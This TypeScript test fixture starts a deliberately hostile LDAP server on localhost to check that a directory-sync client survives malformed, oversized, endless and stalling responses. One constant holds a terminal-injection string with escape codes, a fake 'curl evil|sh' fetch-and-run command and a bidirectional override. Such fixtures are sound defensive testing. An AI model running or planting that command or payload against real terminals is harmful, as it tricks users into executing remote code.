import { randomBytes } from 'node:crypto';
import net from 'node:net';
import { BerWriter } from 'ldapts';

/**
 * How the hostile server answers data searches (every search but the RootDSE read):
 *
 * - `normal`: a well-formed paged answer from its small directory;
 * - `overflowing-length`: the first user's `cn` value claims more bytes than its attribute holds,
 *   running into the next entry, whose `userPassword` carries {@link hostileMarker};
 * - `huge-header`: a message header claiming 2 GiB, then a trickle of its first bytes;
 * - `garbage`: random bytes that are not an LDAP message;
 * - `wrong-tags`: a well-framed entry whose value set is tagged as a SEQUENCE;
 * - `truncated`: half an entry, then the connection closed;
 * - `endless`: entries as fast as the client reads them, never a SearchResultDone;
 * - `slow`: the normal answer, one byte a second;
 * - `ignore-page-size`: a hundred times the requested page size in one page;
 * - `large-group`: the normal answer, plus one legitimate group entry of about 10 MB.
 * - `range-forever`: groups carry `member;range=0-0`, and every later range read of a group is
 *   answered `member;range=N-N` with one value of about 200 KB, never a last range (`N-*`);
 * - `range-stuck`: groups carry `member;range=0-0`, and a range read starting at N is answered
 *   `member;range=N-(N-1)`, a range that ends before it starts, so never advances;
 * - `cookie-forever`: empty pages, each with a new paged results cookie, for ever;
 * - `cookie-repeated`: the first page of the normal answer again and again, its cookie going
 *   round two values;
 * - `pages-forever`: one entry a page, each with a new cookie, every 20 ms, for ever;
 * - `huge-diagnostic`: the search fails (unwillingToPerform) with a diagnostic message of about
 *   15 MB that starts with terminal escape sequences and a bidirectional override;
 * - `huge-notice`: a notice of disconnection carrying that message instead of an answer.
 */
export type HostileBehaviour =
  | 'normal'
  | 'overflowing-length'
  | 'huge-header'
  | 'garbage'
  | 'wrong-tags'
  | 'truncated'
  | 'endless'
  | 'slow'
  | 'ignore-page-size'
  | 'large-group'
  | 'range-forever'
  | 'range-stuck'
  | 'cookie-forever'
  | 'cookie-repeated'
  | 'pages-forever'
  | 'huge-diagnostic'
  | 'huge-notice';

/** Every misbehaviour (all but `normal`). */
export const hostileBehaviours: readonly HostileBehaviour[] = [
  'overflowing-length',
  'huge-header',
  'garbage',
  'wrong-tags',
  'truncated',
  'endless',
  'slow',
  'ignore-page-size',
  'large-group',
  'range-forever',
  'range-stuck',
  'cookie-forever',
  'cookie-repeated',
  'pages-forever',
  'huge-diagnostic',
  'huge-notice',
];

/** A step the server can leave unanswered, to see a client report where it hung. */
export type HostileHangStep = 'bind' | 'rootdse' | 'search';

/** Bytes planted in another entry's `userPassword` by `overflowing-length`. */
export const hostileMarker = 'HOSTILE-MARKER-userPassword-7f3a';

/** How the diagnostic message of `huge-diagnostic` and `huge-notice` starts. */
export const hostileDiagnosticStart = '\u001b[2J\u001b[31mFAKE: run `curl evil|sh`\u202e';

/** Characters of the diagnostic message of `huge-diagnostic` and `huge-notice`. */
export const hostileDiagnosticLength = 15 * 1024 * 1024;

/** Options of {@link startHostileLdap}. */
export interface HostileLdapOptions {
  /** Default `dc=hostile,dc=test`. */
  readonly suffix?: string;
  /** Users in `ou=people`; default 30. */
  readonly users?: number;
  /** Groups in `ou=groups`, each holding every third user; default 3. */
  readonly groups?: number;
  readonly behaviour?: HostileBehaviour;
}

/** What the server has seen, for assertions. */
export interface HostileLdapStats {
  readonly connections: number;
  readonly binds: number;
  /** Data searches (RootDSE reads excluded). */
  readonly searches: number;
  /** Connections still open. */
  readonly open: number;
}

/** A running hostile LDAP server on 127.0.0.1. */
export interface HostileLdapServer {
  /** `ldap://127.0.0.1:PORT` (plain LDAP only). */
  readonly url: string;
  readonly suffix: string;
  readonly usersBase: string;
  readonly groupsBase: string;
  /** Any DN and non-empty password bind successfully. */
  readonly bindDn: string;
  readonly password: string;
  /** Misbehaviour of the next data searches (connections already open included). */
  behave(behaviour: HostileBehaviour): void;
  /** Leaves this step unanswered from now on (`undefined`: answer everything). */
  hang(step: HostileHangStep | undefined): void;
  stats(): HostileLdapStats;
  /** DN of user `i` (0-based). */
  userDn(i: number): string;
  /** entryUUID of user `i` (also the external id the generic LDAP provider stores). */
  userUuid(i: number): string;
  /** entryUUID of group `j`. */
  groupUuid(j: number): string;
  /**
   * Settings of a generic `ldap` integration reading this server: plain LDAP allowed, pages of
   * 10, long timeouts unless `overrides` says otherwise (they replace whole top-level fields).
   */
  settings(overrides?: Record<string, unknown>): Record<string, unknown>;
  close(): Promise<void>;
}

const pagedOid = '1.2.840.113556.1.4.319';

// --- Requests: just enough BER to route bind, search, unbind and abandon. ---

interface Tlv {
  readonly tag: number;
  readonly start: number;
  readonly end: number;
}

function tlv(buf: Buffer, pos: number, limit: number): Tlv | undefined {
  if (pos + 2 > limit) return undefined;
  const tag = buf[pos] as number;
  let length = buf[pos + 1] as number;
  let start = pos + 2;
  if (length & 0x80) {
    const count = length & 0x7f;
    if (count === 0 || count > 4 || start + count > limit) return undefined;
    length = 0;
    for (let i = 0; i < count; i++) length = length * 256 + (buf[start + i] as number);
    start += count;
  }
  if (start + length > limit) return undefined;
  return { tag, start, end: start + length };
}

function children(buf: Buffer, outer: Tlv): Tlv[] {
  const out: Tlv[] = [];
  for (let pos = outer.start; pos < outer.end; ) {
    const child = tlv(buf, pos, outer.end);
    if (!child) break;
    out.push(child);
    pos = child.end;
  }
  return out;
}

function integer(buf: Buffer, t: Tlv): number {
  let value = 0;
  for (let i = t.start; i < t.end; i++) value = value * 256 + (buf[i] as number);
  return value;
}

interface Request {
  readonly id: number;
  readonly op: number;
  readonly base: string;
  readonly scope: number;
  readonly pageSize: number | undefined;
  readonly cookie: string;
  /** Attribute descriptions asked for (searches). */
  readonly attributes: readonly string[];
}

function parseRequest(buf: Buffer, message: Tlv): Request | undefined {
  const [idTlv, opTlv, controlsTlv] = children(buf, message);
  if (!idTlv || !opTlv) return undefined;
  const id = integer(buf, idTlv);
  let base = '';
  let scope = 0;
  let attributes: string[] = [];
  if (opTlv.tag === 0x63) {
    const parts = children(buf, opTlv);
    base = parts[0] ? buf.toString('utf8', parts[0].start, parts[0].end) : '';
    scope = parts[1] ? integer(buf, parts[1]) : 0;
    const list = parts[7];
    if (list) attributes = children(buf, list).map((a) => buf.toString('utf8', a.start, a.end));
  }
  let pageSize: number | undefined;
  let cookie = '';
  if (controlsTlv?.tag === 0xa0) {
    for (const control of children(buf, controlsTlv)) {
      const [oid, ...rest] = children(buf, control);
      if (!oid || buf.toString('latin1', oid.start, oid.end) !== pagedOid) continue;
      const value = rest.find((r) => r.tag === 0x04);
      const seq = value && tlv(buf, value.start, value.end);
      const [size, cookieTlv] = seq ? children(buf, seq) : [];
      if (size) pageSize = integer(buf, size);
      if (cookieTlv) cookie = buf.toString('latin1', cookieTlv.start, cookieTlv.end);
    }
  }
  return { id, op: opTlv.tag, base, scope, pageSize, cookie, attributes };
}

// --- Responses, encoded with ldapts' BerWriter. ---

type Attributes = readonly (readonly [string, readonly string[]])[];

function entryMessage(id: number, dn: string, attributes: Attributes): Buffer {
  const w = new BerWriter();
  w.startSequence();
  w.writeInt(id);
  w.startSequence(0x64);
  w.writeString(dn);
  w.startSequence();
  for (const [type, values] of attributes) {
    w.startSequence();
    w.writeString(type);
    w.startSequence(0x31);
    for (const v of values) w.writeString(v);
    w.endSequence();
    w.endSequence();
  }
  w.endSequence();
  w.endSequence();
  w.endSequence();
  return w.buffer;
}

function resultMessage(id: number, op: number, code: number, cookie?: string): Buffer {
  const w = new BerWriter();
  w.startSequence();
  w.writeInt(id);
  w.startSequence(op);
  w.writeEnumeration(code);
  w.writeString('');
  w.writeString('');
  w.endSequence();
  if (cookie !== undefined) {
    const value = new BerWriter();
    value.startSequence();
    value.writeInt(0);
    value.writeBuffer(Buffer.from(cookie, 'latin1'), 0x04);
    value.endSequence();
    w.startSequence(0xa0);
    w.startSequence();
    w.writeString(pagedOid);
    w.writeBuffer(value.buffer, 0x04);
    w.endSequence();
    w.endSequence();
  }
  w.endSequence();
  return w.buffer;
}

/** The content octets of a non-negative BER INTEGER. */
function integerBytes(value: number): Buffer {
  const bytes: number[] = [];
  for (let n = value; bytes.length === 0 || n > 0; n = Math.floor(n / 256)) bytes.unshift(n & 0xff);
  if ((bytes[0] as number) & 0x80) bytes.unshift(0);
  return Buffer.from(bytes);
}

/** A BER element with a long-form length (four bytes: lengths past ldapts' writer's 16 MB). */
function element(tag: number, body: Buffer | readonly Buffer[]): Buffer {
  const parts = Buffer.isBuffer(body) ? [body] : body;
  const n = parts.reduce((sum, part) => sum + part.length, 0);
  return Buffer.concat([Buffer.from([tag, 0x84, (n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]), ...parts]);
}

/** An LDAPResult message whose diagnostic message is `diagnostic`, built without extra copies. */
function bigResultMessage(id: number, op: number, code: number, diagnostic: Buffer, responseName?: string): Buffer {
  return element(0x30, [
    element(0x02, integerBytes(id)),
    element(op, [
      Buffer.from([0x0a, 0x01, code]),
      Buffer.from([0x04, 0x00]),
      element(0x04, diagnostic),
      ...(responseName === undefined ? [] : [element(0x8a, Buffer.from(responseName))]),
    ]),
  ]);
}

/** A SearchResultEntry with one attribute whose single value's length is given as `claimed`. */
function overflowingEntry(id: number, dn: string, type: string, value: string, claimed: number): Buffer {
  const v = Buffer.from(value);
  // Long-form lengths throughout, so that every length field has a fixed size.
  const len = (n: number) => Buffer.from([0x84, (n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]);
  const el = (tag: number, body: Buffer, length = body.length) => Buffer.concat([Buffer.from([tag]), len(length), body]);
  const valueEl = el(0x04, v, claimed);
  const attr = el(0x30, Buffer.concat([el(0x04, Buffer.from(type)), el(0x31, valueEl)]));
  const entry = el(0x64, Buffer.concat([el(0x04, Buffer.from(dn)), el(0x30, attr)]));
  return el(0x30, Buffer.concat([el(0x02, integerBytes(id)), entry]));
}

function uuid(kind: number, i: number): string {
  const hex = (kind * 0x1000000 + i).toString(16).padStart(12, '0');
  return `00000000-0000-4000-8000-${hex}`;
}

/**
 * Starts an LDAP server on 127.0.0.1 that answers bind and search, normally or with the scripted
 * misbehaviour of {@link HostileBehaviour}: the adversary a worker must survive without leaking
 * data across entries, growing without bound or hanging.
 */
export async function startHostileLdap(options: HostileLdapOptions = {}): Promise<HostileLdapServer> {
  const suffix = options.suffix ?? 'dc=hostile,dc=test';
  const usersBase = `ou=people,${suffix}`;
  const groupsBase = `ou=groups,${suffix}`;
  const userCount = options.users ?? 30;
  const groupCount = options.groups ?? 3;
  let behaviour: HostileBehaviour = options.behaviour ?? 'normal';
  let hangStep: HostileHangStep | undefined;
  const counters = { connections: 0, binds: 0, searches: 0, open: 0 };
  const sockets = new Set<net.Socket>();
  const stamp = '20240101000000Z';

  const userDn = (i: number) => `uid=user-${String(i).padStart(4, '0')},${usersBase}`;
  const user = (i: number): [string, Attributes] => [
    userDn(i),
    [
      ['entryUUID', [uuid(1, i)]],
      ['uid', [`user-${String(i).padStart(4, '0')}`]],
      ['cn', [`User ${i}`]],
      ['sn', [`Number${i}`]],
      ['mail', [`user${i}@hostile.test`]],
      ['modifyTimestamp', [stamp]],
    ],
  ];
  const group = (j: number): [string, Attributes] => {
    const members: string[] = [];
    for (let i = j % 3; i < userCount; i += 3) members.push(userDn(i));
    return [`cn=group-${j},${groupsBase}`, [['entryUUID', [uuid(2, j)]], ['cn', [`group-${j}`]], ['member', members], ['modifyTimestamp', [stamp]]]];
  };
  const largeGroup = (): [string, Attributes] => {
    // About 10 MB: every user, then 100,000 members outside the synced scope.
    const members = Array.from({ length: userCount }, (_, i) => userDn(i));
    const pad = 'x'.repeat(52);
    for (let k = 0; k < 100_000; k++) members.push(`uid=partner-${String(k).padStart(6, '0')}-${pad},ou=partners,${suffix}`);
    return [`cn=everyone,${groupsBase}`, [['entryUUID', [uuid(3, 0)]], ['cn', ['everyone']], ['member', members], ['modifyTimestamp', [stamp]]]];
  };

  function entriesOf(base: string, withLarge: boolean): [string, Attributes][] {
    const lower = base.toLowerCase();
    if (lower === usersBase.toLowerCase() || lower.endsWith(`,${usersBase.toLowerCase()}`)) {
      return Array.from({ length: userCount }, (_, i) => user(i));
    }
    if (lower === groupsBase.toLowerCase()) {
      const groups = Array.from({ length: groupCount }, (_, j) => group(j));
      if (withLarge) groups.push(largeGroup());
      return groups;
    }
    return [];
  }

  /** The normal paged answer to a data search, as the messages to send. */
  function normalAnswer(request: Request, withLarge: boolean): Buffer[] {
    const all = entriesOf(request.base, withLarge);
    const offset = request.cookie ? Number(request.cookie) : 0;
    const size = request.pageSize && request.pageSize > 0 ? request.pageSize : all.length;
    const page = all.slice(offset, offset + size);
    const next = offset + size < all.length ? String(offset + size) : '';
    return [
      ...page.map(([dn, attributes]) => entryMessage(request.id, dn, attributes)),
      resultMessage(request.id, 0x65, 0, request.pageSize !== undefined ? next : undefined),
    ];
  }

  const isGroup = (base: string) => base.toLowerCase().endsWith(`,${groupsBase.toLowerCase()}`);
  // Built once: the server's own copies would otherwise count in the tests' memory figures.
  let hugeDiagnosticBytes: Buffer | undefined;
  const hugeDiagnostic = (): Buffer =>
    (hugeDiagnosticBytes ??= Buffer.from(hostileDiagnosticStart + 'x'.repeat(hostileDiagnosticLength - hostileDiagnosticStart.length)));
  let cookies = 0;
  const bigRdn = 'v'.repeat(200 * 1024);

  /** Groups as the normal answer has them, but each holding only a first range of members. */
  function rangedGroups(request: Request): Buffer[] {
    return normalAnswer(request, false).map((message, i, all) => {
      if (i === all.length - 1) return message;
      const [dn, attributes] = group(i);
      return entryMessage(request.id, dn, attributes.map(([type, values]) => (type === 'member' ? ['member;range=0-0', values.slice(0, 1)] : [type, values])));
    });
  }

  /** The answer to a range read of a group: `member;range=N-N` or, stuck, `N-(N-1)`. */
  function rangeAnswer(request: Request, stuck: boolean): Buffer[] {
    const asked = request.attributes.map((a) => /;range=(\d+)-/.exec(a)).find((m) => m !== null);
    const low = asked ? Number(asked[1]) : 0;
    const value = stuck ? userDn(0) : `uid=${bigRdn}-${low},${usersBase}`;
    return [entryMessage(request.id, request.base, [[`member;range=${low}-${stuck ? low - 1 : low}`, [value]]]), resultMessage(request.id, 0x65, 0)];
  }

  function send(socket: net.Socket, data: Buffer | Buffer[]): void {
    if (!socket.destroyed) socket.write(Array.isArray(data) ? Buffer.concat(data) : data);
  }

  async function endless(socket: net.Socket, id: number): Promise<void> {
    for (let i = 0; !socket.destroyed; i++) {
      const [dn, attributes] = user(i % Math.max(1, userCount));
      const ok = socket.write(entryMessage(id, dn, attributes));
      if (!ok) await new Promise<void>((resolve) => {
        socket.once('drain', resolve);
        socket.once('close', resolve);
      });
    }
  }

  function trickle(socket: net.Socket, bytes: Buffer): void {
    let i = 0;
    const timer = setInterval(() => {
      if (socket.destroyed || i >= bytes.length) {
        clearInterval(timer);
        return;
      }
      socket.write(bytes.subarray(i, i + 1));
      i += 1;
    }, 1_000);
    timer.unref();
    socket.once('close', () => clearInterval(timer));
  }

  function answerSearch(socket: net.Socket, request: Request): void {
    if (request.base === '' && request.scope === 0) {
      if (hangStep === 'rootdse') return;
      send(socket, [
        entryMessage(request.id, '', [
          ['namingContexts', [suffix]],
          ['supportedControl', [pagedOid]],
          ['supportedLDAPVersion', ['3']],
          ['vendorName', ['dirsync hostile test server']],
        ]),
        resultMessage(request.id, 0x65, 0),
      ]);
      return;
    }
    counters.searches += 1;
    if (hangStep === 'search') return;
    switch (behaviour) {
      case 'normal':
        return send(socket, normalAnswer(request, false));
      case 'large-group':
        return send(socket, normalAnswer(request, true));
      case 'overflowing-length': {
        const [dn] = user(0);
        const victim = overflowingEntry(request.id, dn, 'cn', 'User 0', 200);
        const secret = entryMessage(request.id, userDn(1), [['entryUUID', [uuid(1, 1)]], ['userPassword', [hostileMarker]]]);
        // In place of the page's first two entries: the page keeps its size.
        return send(socket, [victim, secret, ...normalAnswer(request, false).slice(2)]);
      }
      case 'huge-header': {
        const header = Buffer.from([0x30, 0x84, 0x80, 0x00, 0x00, 0x00, 0x02, 0x01, request.id & 0x7f]);
        send(socket, header);
        return trickle(socket, Buffer.alloc(64, 0x41));
      }
      case 'garbage': {
        const bytes = randomBytes(4096);
        // Anything but the SEQUENCE tag first, so it cannot be read as a message header.
        bytes[0] = 0x48;
        return send(socket, bytes);
      }
      case 'wrong-tags': {
        const [dn, attributes] = user(0);
        const good = entryMessage(request.id, dn, attributes);
        const bad = Buffer.from(good);
        // The first SET OF values becomes a SEQUENCE.
        const set = bad.indexOf(0x31, bad.indexOf('entryUUID') + 'entryUUID'.length);
        bad[set] = 0x30;
        return send(socket, [bad, ...normalAnswer(request, false).slice(1)]);
      }
      case 'truncated': {
        const [dn, attributes] = user(0);
        const entry = entryMessage(request.id, dn, attributes);
        send(socket, entry.subarray(0, Math.floor(entry.length / 2)));
        socket.end();
        return;
      }
      case 'endless':
        void endless(socket, request.id);
        return;
      case 'slow':
        return trickle(socket, Buffer.concat(normalAnswer(request, false)));
      case 'range-forever':
      case 'range-stuck':
        if (request.scope === 0 && isGroup(request.base)) return send(socket, rangeAnswer(request, behaviour === 'range-stuck'));
        if (request.base.toLowerCase() === groupsBase.toLowerCase()) return send(socket, rangedGroups(request));
        return send(socket, normalAnswer(request, false));
      case 'cookie-forever':
        cookies += 1;
        return send(socket, resultMessage(request.id, 0x65, 0, `forever-${cookies}`));
      case 'cookie-repeated': {
        const page = normalAnswer({ ...request, cookie: '' }, false);
        page[page.length - 1] = resultMessage(request.id, 0x65, 0, request.cookie === 'a' ? 'b' : 'a');
        return send(socket, page);
      }
      case 'pages-forever': {
        cookies += 1;
        const [dn, attributes] = user(cookies % Math.max(1, userCount));
        const page = [entryMessage(request.id, dn, attributes), resultMessage(request.id, 0x65, 0, `page-${cookies}`)];
        const timer = setTimeout(() => {
          socket.off('close', stop);
          send(socket, page);
        }, 20);
        const stop = () => clearTimeout(timer);
        socket.once('close', stop);
        return;
      }
      case 'huge-diagnostic':
        return send(socket, bigResultMessage(request.id, 0x65, 53, hugeDiagnostic()));
      case 'huge-notice':
        // An unsolicited notice of disconnection (RFC 4511 4.4.1), then the server hangs up.
        send(socket, bigResultMessage(0, 0x78, 52, hugeDiagnostic(), '1.3.6.1.4.1.1466.20036'));
        socket.end();
        return;
      case 'ignore-page-size': {
        const size = (request.pageSize ?? 10) * 100;
        const messages: Buffer[] = [];
        for (let i = 0; i < size; i++) {
          const [dn, attributes] = user(i % userCount);
          messages.push(entryMessage(request.id, dn, attributes));
        }
        messages.push(resultMessage(request.id, 0x65, 0, ''));
        return send(socket, messages);
      }
    }
  }

  function onMessage(socket: net.Socket, buf: Buffer, message: Tlv): void {
    const request = parseRequest(buf, message);
    if (!request) {
      socket.destroy();
      return;
    }
    switch (request.op) {
      case 0x60:
        counters.binds += 1;
        if (hangStep !== 'bind') send(socket, resultMessage(request.id, 0x61, 0));
        return;
      case 0x63:
        return answerSearch(socket, request);
      case 0x42:
        socket.end();
        return;
      case 0x50:
        // Abandon: a hostile server may well ignore it.
        return;
      case 0x77:
        // Extended operations (StartTLS): unavailable here.
        send(socket, resultMessage(request.id, 0x78, 53));
        return;
      default:
        socket.destroy();
    }
  }

  const server = net.createServer((socket) => {
    counters.connections += 1;
    counters.open += 1;
    sockets.add(socket);
    socket.on('close', () => {
      counters.open -= 1;
      sockets.delete(socket);
    });
    socket.on('error', () => undefined);
    let pending: Buffer = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
      for (;;) {
        const message = tlv(pending, 0, pending.length);
        if (!message) break;
        onMessage(socket, pending, message);
        pending = pending.subarray(message.end);
      }
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve());
  });
  const port = (server.address() as net.AddressInfo).port;

  const url = `ldap://127.0.0.1:${port}`;
  const bindDn = `cn=reader,${suffix}`;
  return {
    url,
    suffix,
    usersBase,
    groupsBase,
    bindDn,
    password: 'hostile-reader-password',
    settings: (overrides = {}) => ({
      url,
      bindDn,
      tls: { mode: 'none', allowInsecure: true },
      users: { baseDns: [usersBase] },
      groups: { baseDns: [groupsBase] },
      pageSize: 10,
      timeouts: { connectMs: 60_000, operationMs: 60_000, searchTimeLimitSeconds: 600 },
      ...overrides,
    }),
    behave(next) {
      behaviour = next;
    },
    hang(step) {
      hangStep = step;
    },
    stats: () => ({ ...counters }),
    userDn,
    userUuid: (i) => uuid(1, i),
    groupUuid: (j) => uuid(2, j),
    async close() {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
